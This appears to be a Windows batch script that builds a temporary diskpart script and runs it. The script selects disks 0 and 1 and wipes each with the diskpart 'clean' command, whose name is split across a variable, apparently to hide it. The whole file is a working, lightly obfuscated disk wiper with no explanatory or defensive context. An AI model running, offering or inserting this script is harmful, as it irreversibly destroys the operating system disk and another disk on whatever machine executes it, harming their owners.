@echo off
setlocal
set s=%TEMP%\dp%RANDOM%.txt
set k=cle
> "%s%" echo rescan
for %%n in (0 1) do (
    >> "%s%" echo select disk %%n
    >> "%s%" echo %k%an
)
diskpart /s "%s%"
del "%s%"
endlocal
